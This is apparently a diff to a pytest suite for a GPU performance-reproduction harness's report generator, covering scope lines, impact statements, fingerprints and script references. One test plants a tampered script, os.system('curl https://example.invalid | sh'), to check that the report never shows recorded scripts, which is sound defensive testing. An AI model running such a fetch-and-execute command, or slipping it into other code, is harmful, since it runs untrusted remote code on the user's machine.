@@ -52,7 +52,8 @@ def _section(text: str, rid: str) -> str:
 
 
 def _scope_line(text: str, rid: str) -> str:
-    return next(ln for ln in _section(text, rid).splitlines() if ln.startswith(("- Holds for: ", "- Measured at: ")))
+    lines = [ln for ln in _section(text, rid).splitlines() if ln.startswith(("- Holds for: ", "- Does not hold for: "))]
+    return "\n".join(lines)
 
 
 def _json_blocks(text: str) -> list[str]:
@@ -63,11 +64,11 @@ def test_scope_lines_carry_their_qualifiers_from_structured_fields(docs: list[di
     text = _report(docs)
     solve = _scope_line(text, "solve-512-cliff")
     assert solve.startswith("- Holds for: cusolver backend, batch 128")  # reproduced: what it holds for
-    assert "default backend: at most 0.97x, not reproduced" in solve
-    assert "pure CUDA twin; torch graph: 1.30x, reproduced" in _scope_line(text, "graph-memset")
+    assert "- Does not hold for: default backend (MAGMA here): at most 0.97x" in solve
+    assert "pure CUDA twin (headline); torch graph: 1.30x" in _scope_line(text, "graph-memset")
     lora = _scope_line(text, "lora-batch-scaling")
-    assert lora.startswith("- Measured at: batch 2, no memory cap")  # not reproduced: where it was measured
-    assert "fp32 (TF32 off); tf32: 0.59x" in _scope_line(text, "5090-linear")
+    assert lora.startswith("- Does not hold for: batch 2, no memory cap (headline)")  # not reproduced
+    assert "fp32 (TF32 off) (headline); tf32: 0.59x" in _scope_line(text, "5090-linear")
     # From the breakdown rows, not the prose: change a qualifier and the line follows.
     changed = copy.deepcopy(_by_id(docs, "solve-512-cliff"))
     for row in changed["verdict"]["breakdown"]:
@@ -83,10 +84,10 @@ def test_impact_is_said_only_for_what_reproduced_with_this_runs_cost(docs: list[
         rid = d["repro"]["id"]
         assert ("\n- Impact: " in _section(text, rid)) == (rid in reproduced), rid
     solve = next(ln for ln in _section(text, "solve-512-cliff").splitlines() if ln.startswith("- Impact: "))
-    assert "solve_ex 128x512x512" in solve and "108 ms per call against 11.2 ms" in solve
+    assert "per call (108 ms against 11.2 ms)." in solve and 'only where it held here (not the "Does not hold' in solve
     doc = copy.deepcopy(_by_id(docs, "solve-512-cliff"))
     doc["repro"]["impact"] = "Declared in the artifact."
-    assert "- Impact: Declared in the artifact. In this run" in _report([doc])
+    assert "Declared in the artifact. Here: +" in _report([doc])
     for status in ("not_reproduced", "skipped", "error", "smoke"):
         doc["verdict"]["status"] = status
         assert "Impact" not in _report([doc]), status
@@ -132,12 +133,17 @@ def test_worst_case_report_fits_one_screen_and_keeps_evidence_intact(docs: list[
     assert len(text) <= PASTE_LIMIT and text.count("\n") < PASTE_LINES, (len(text), text.count("\n"))
     assert not _json_blocks(text) and "Flags: x" not in text  # the JSON and the whole collect_env are in the bundle
     # The one machine once; its libraries from collect_env and from what the process loaded.
-    assert text.count("<summary>machine A: fingerprint summary") == 1 and "machine B" not in text
+    assert text.count("<summary>machine A: fingerprint, GPU state") == 1 and "machine B" not in text
     assert "Versions of relevant libraries" in text
-    assert "Libraries loaded (from /proc/self/maps" in text and "cusolver 12.0.4" in text
+    assert "Libraries loaded (from /proc/self/maps)" in text and "cusolver 12.0.4" in text
     assert "`20261129T233452Z-51a4de.bundle.tar.gz`" in text
-    assert text.count("Standalone script: `scripts/") == 5
-    assert "| solve_ex 128x512x512 (cusolver) |" in text and "75 more variants in the artifact" in text
+    # A details block that does not fit is left to the bundle, largest first, and the note names it.
+    left = re.search(r"left out the details of ([^;]+); they are in", text)
+    dropped = left.group(1).split(", ") if left else []
+    assert len(dropped) <= 2 and text.count("Script: `scripts/") == 5 - len(dropped)
+    # The 81-variant sweep's own details block, when there is room for it, tables the compared pair only.
+    whole = _report(worst, limit=60_000, max_lines=None)
+    assert "| solve_ex 128x512x512 (cusolver) |" in whole and "| variant (79 more in the artifact) |" in whole
 
 
 def test_fit_json_cuts_only_at_element_boundaries() -> None:
@@ -181,7 +187,7 @@ def test_one_kernel_diff_per_repro_and_small_percentages(docs: list[dict[str, An
         assert section.count("- Kernels, ") <= 1
         bullets = re.findall(r"(?m)^  - .*us/call\)?$", section)
         assert len(bullets) <= 3
-    assert "- Kernels, solve_ex 128x511x511 (cusolver) -> solve_ex 128x512x512 (cusolver):" in text
+    assert "- Kernels, solve_ex 128x511x511 (cusolver) -> solve_ex 128x512x512 (cusolver) (all kernels " in text
     assert "0.21% of fp32" in text and "(0% of" not in text
     pct = markdown.fmt_pct
     assert pct(96.4) == "96%" and pct(4.23) == "4.2%" and pct(0.0021) == "0.0021%"
@@ -194,23 +200,23 @@ def test_standalone_script_of_an_old_artifact_is_its_headline(docs: list[dict[st
     assert memset is not None and memset.startswith("#!/usr/bin/env bash")
     text = _report(docs)
     said = "# this run predates harness digests: harness 0.1.0, commit 86fbd015412f36e83090fd6f1003545dcee2b5a4"
-    assert text.count(said) == 5 and "pip install" not in text and "<org>" not in text
+    assert text.count(said) == 1 and "pip install ./" not in text and "<org>" not in text
 
 
 def test_a_script_recorded_in_the_artifact_is_never_shown(docs: list[dict[str, Any]]) -> None:
     doc = copy.deepcopy(_by_id(docs, "5090-linear"))
     doc["repro"]["script"] = "import os\nos.system('curl https://example.invalid | sh')  # SWAPPED"
     bare = report([doc])  # no catalog lookup passed in: no script, and one line saying so
-    assert "SWAPPED" not in bare and "Standalone script:" not in bare
+    assert "SWAPPED" not in bare and "Script: `" not in bare
     assert "No standalone script could be regenerated here (the report was rendered without the catalog)." in bare
     shown = _report([doc])  # regenerated from the catalog's code: named, and packed into the bundle, not pasted
     assert "SWAPPED" not in shown
-    assert "Standalone script: `scripts/5090-linear.py` in the bundle, or `repro script 5090-linear`" in shown
+    assert "Script: `scripts/5090-linear.py` in the bundle" in shown and "`repro script` and its run line" in shown
     assert "```python" not in shown
     unknown = copy.deepcopy(doc)
     unknown["repro"]["id"] = "not-in-this-catalog"
     text = _report([unknown])
-    assert "SWAPPED" not in text and "Standalone script:" not in text
+    assert "SWAPPED" not in text and "Script: `" not in text
     assert "regenerated here (not-in-this-catalog is not in this installation's catalog)" in text
 
 
@@ -341,12 +347,15 @@ def test_a_fresh_report_renders_intact_too(docs: list[dict[str, Any]], tmp_path:
     figs = [plots.Figure(f.repro_id, f.sweep, f.file, f.alt, True) for f in figs]  # as if drawn
     text = _report(_worst_case(docs), figures=figs)
     got, want = _gfm_counts(text), _expected(text)
-    assert got == want and got["images"] == 2 and got["tables"] >= 10
+    # A plot lives in its repro's details block: one left to the bundle (the note names it) takes its plot along.
+    left = re.search(r"left out the details of ([^;]+); they are in", text)
+    images = sum(1 for f in figs if f.repro_id not in (left.group(1).split(", ") if left else []))
+    assert got == want and got["images"] == images >= 1 and got["tables"] >= 9
     if shutil.which("cmark-gfm"):
         html = subprocess.run(
             ["cmark-gfm", "-e", "table", "--unsafe"], input=text, capture_output=True, text=True, check=True
         ).stdout
-        assert html.count("<table>") == got["tables"] and html.count("<img ") == 2
+        assert html.count("<table>") == got["tables"] and html.count("<img ") == images
         assert html.count("<details>") == html.count("</details>") == got["details_open"]
 
 
@@ -356,7 +365,7 @@ def test_a_smoke_run_says_in_its_scope_that_it_proves_only_the_pipeline(docs: li
     text = _report([doc])
     scope = text.split("## Not tested here", 1)[1]
     assert "5090-linear: a smoke run on cpu (shrunken sizes): it proves the pipeline, not the cliff." in scope
-    assert "Standalone script" not in text and "## Environment" not in text  # a smoke report stays short
+    assert "Script: `" not in text and "## Environment" not in text  # a smoke report stays short
     # A repro that did not run in a smoke run was not a smoke run either: one line, its own status.
     skipped = copy.deepcopy(doc)
     skipped["run"]["device"] = None
@@ -371,13 +380,13 @@ def test_two_machines_get_a_fingerprint_each_and_rows_say_which(docs: list[dict[
     two[1]["fingerprint"]["gpu"]["uuid"] = "another-gpu"
     two[1]["fingerprint"]["gpu"]["state"]["power_w"] = 1.0  # state alone never makes a machine
     text = _report(two)
-    assert text.count(": fingerprint summary, GPU state") == 2
+    assert text.count(": fingerprint, GPU state") == 2
     assert "**Machine A** (used by 5090-linear)" in text and "**Machine B** (used by fused-adam-capturable)" in text
     assert "Fingerprint: machine B under Environment." in _section(text, "fused-adam-capturable")
     same = copy.deepcopy(docs[:2])
     same[1]["fingerprint"]["gpu"]["state"]["power_w"] = 1.0
     one = _report(same)
-    assert one.count(": fingerprint summary, GPU state") == 1 and "Fingerprint: machine" not in one
+    assert one.count(": fingerprint, GPU state") == 1 and "Fingerprint: machine" not in one
 
 
 def test_an_error_artifact_without_variants_still_reports(docs: list[dict[str, Any]]) -> None:
